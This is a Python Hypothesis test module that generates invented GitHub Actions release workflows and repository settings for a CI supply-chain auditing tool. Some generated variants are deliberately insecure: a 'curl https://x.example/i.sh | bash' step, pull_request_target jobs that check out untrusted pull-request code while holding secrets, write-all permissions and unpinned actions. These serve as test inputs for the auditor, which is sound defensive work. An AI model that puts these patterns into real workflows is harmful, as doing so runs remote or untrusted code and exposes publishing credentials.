"""Invented repositories for Hypothesis: release workflows from building blocks, and settings."""

from __future__ import annotations

from hypothesis import strategies as st
from msgspec import Struct

from audits.model.index_hosts import IndexHosts
from audits.model.repository import Repository
from audits.model.settings import (
    ActionsPolicy,
    EnvironmentSettings,
    Need,
    RepositorySettings,
    TagRuleset,
    Unseen,
)
from audits.model.source import RepositoryRef, Snapshot, SourceFile
from audits.workflow.repository import read_repository

INDEX = IndexHosts.of("https://pypi.example/simple/")
PIN = "0123456789abcdef0123456789abcdef01234567"
UNSEEN = Unseen(need=Need.SETTINGS, reason="hidden", permission="Actions: read")


class Shape(Struct, frozen=True, kw_only=True):
    """The choices of one generated release workflow."""

    trigger: str
    top: str
    build_permissions: str
    publish_permissions: str
    ref: str
    comment: str
    persist: str
    environment: str
    upload: str
    extra_step: str
    separate: bool
    beside: str = ""


_STEPS = "    runs-on: ubuntu-latest\n    steps:\n"
BESIDE = {
    "": "",
    "test channel": "on: push\njobs:\n  trial:\n"
    + _STEPS
    + "      - run: twine upload --repository testpypi dist/*\n"
    "        env: {TWINE_PASSWORD: '${{ secrets.TRIAL }}'}\n",
    "private channel": "on: pull_request_target\njobs:\n  inner:\n"
    + _STEPS
    + f"      - uses: actions/checkout@{PIN} # v4.2.2\n"
    "        with: {ref: '${{ github.event.pull_request.head.sha }}'}\n"
    "      - run: make\n"
    "      - run: twine upload --repository-url https://packages.orchard.example/ dist/*\n"
    "        env: {TWINE_PASSWORD: '${{ secrets.INNER }}'}\n",
    "unrecognized": "name: Release\non: {release: {types: [published]}}\njobs:\n  release:\n"
    + _STEPS
    + "      - run: acme-ship release\n        env: {SHIP_TOKEN: '${{ secrets.SHIP_TOKEN }}'}\n",
    "credential elsewhere": "on: push\njobs:\n  test:\n"
    + _STEPS
    + "      - run: make test\n        env: {T: '${{ secrets.INDEX_TOKEN }}'}\n",
    "caches of outsiders": "on: pull_request_target\ncache-mode: write\njobs:\n  test:\n"
    + _STEPS
    + "      - run: make test\n",
}
"""Workflows beside the release, by what they are for."""
OTHER = ".github/workflows/other.yml"


def _choice(*texts: str) -> st.SearchStrategy[str]:
    return st.sampled_from(texts)


shapes = st.builds(
    Shape,
    trigger=_choice(
        "{release: {types: [published]}}",
        "{push: {tags: ['v*']}}",
        "push",
        "pull_request_target",
        "[push, workflow_dispatch]",
    ),
    top=_choice(
        "",
        "permissions: {}",
        "permissions: write-all",
        "permissions: {contents: read}",
        "permissions: {id-token: write, contents: write}",
    ),
    build_permissions=_choice("", "permissions: {contents: read}", "permissions: write-all"),
    publish_permissions=_choice(
        "", "permissions: {id-token: write}", "permissions: {contents: read}"
    ),
    ref=_choice(PIN, "v4", "main", "release/v1"),
    comment=_choice("", " # v1.12.4", " # nothing"),
    persist=_choice("", "        with: {persist-credentials: false}"),
    environment=_choice(
        "",
        "environment: pypi",
        "environment: {name: pypi, url: 'https://pypi.example/p/lumen'}",
        "environment: ${{ inputs.where }}",
    ),
    upload=_choice(
        "- uses: pypa/gh-action-pypi-publish@{ref}{comment}",
        "- uses: pypa/gh-action-pypi-publish@{ref}{comment}\n        with: {{password: '${{{{ secrets.T }}}}'}}",
        "- run: twine upload dist/*\n        env: {{TWINE_PASSWORD: '${{{{ secrets.T }}}}'}}",
        "- run: uv publish",
        "- uses: pypa/gh-action-pypi-publish@{ref}{comment}\n        with: {{attestations: false}}",
        "- run: npm publish",
        "- uses: docker/build-push-action@{ref}{comment}\n        with: {{push: true}}",
    ),
    extra_step=_choice(
        "",
        "      - run: echo ${{ github.event.release.name }}",
        "      - uses: actions/cache@v4",
        "      - run: curl https://x.example/i.sh | bash",
    ),
    separate=st.booleans(),
    beside=_choice(*BESIDE),
)


def text_of(shape: Shape) -> str:
    """The workflow of a shape."""
    upload = shape.upload.format(ref=shape.ref, comment=shape.comment)
    checkout = "\n".join(
        filter(None, (f"      - uses: actions/checkout@{shape.ref}{shape.comment}", shape.persist))
    )
    build = "      - run: python -m build"
    lines = ["name: Release", f"on: {shape.trigger}", shape.top, "jobs:"]
    publish = [
        "  publish:",
        "    runs-on: ubuntu-latest",
        f"    {shape.publish_permissions}",
        f"    {shape.environment}",
    ]
    if shape.separate:
        lines += [
            "  build:",
            "    runs-on: ubuntu-latest",
            f"    {shape.build_permissions}",
            "    steps:",
            checkout,
            shape.extra_step,
            build,
            f"      - uses: actions/upload-artifact@{shape.ref}{shape.comment}",
        ]
        lines += [
            *publish,
            "    needs: build",
            "    steps:",
            f"      - uses: actions/download-artifact@{shape.ref}{shape.comment}",
        ]
    else:
        lines += [*publish, "    steps:", checkout, shape.extra_step, build]
    lines.append(f"      {upload}")
    return "\n".join(line for line in lines if line.strip()) + "\n"


facts = st.booleans() | st.just(UNSEEN)
environments = st.builds(
    EnvironmentSettings,
    name=st.just("pypi"),
    reviewers=st.sampled_from([0, 1, UNSEEN]),
    prevent_self_review=facts,
    admins_can_bypass=facts,
    ref_patterns=st.sampled_from([(), ("tag:v*",), UNSEEN]),
)
settings_facts = st.none() | st.builds(
    RepositorySettings,
    environments=st.just(UNSEEN) | st.just({}) | environments.map(lambda e: {"pypi": e}),
    tag_rulesets=st.sampled_from(
        [(), (TagRuleset(name="r", include=("~ALL",), rules=("creation", "deletion")),), UNSEEN]
    ),
    latest_release_immutable=facts,
    actions=st.just(UNSEEN)
    | st.builds(
        ActionsPolicy,
        default_token_write=facts,
        can_approve_pull_requests=facts,
        sha_pinning_required=facts,
    ),
    secret_names=st.sampled_from([(), ("PYPI_TOKEN",), UNSEEN]),
    organization_secret_names=st.sampled_from([(), UNSEEN]),
)


def repository(shape: Shape, settings: RepositorySettings | None) -> Repository:
    """The repository of a shape with these settings."""
    files: tuple[SourceFile, ...] = (
        SourceFile.of(".github/workflows/release.yml", text_of(shape).encode()),
        SourceFile.of("pyproject.toml", b'[project]\nname = "lumen"\n'),
    )
    if shape.beside:
        files += (SourceFile.of(OTHER, BESIDE[shape.beside].encode()),)
    ref = RepositoryRef(owner="orchard-labs", name="lumen")
    snapshot = Snapshot(ref=ref, files=files, settings=settings)
    return read_repository(snapshot, channel=INDEX.channel_of)


repositories = st.builds(repository, shapes, settings_facts)
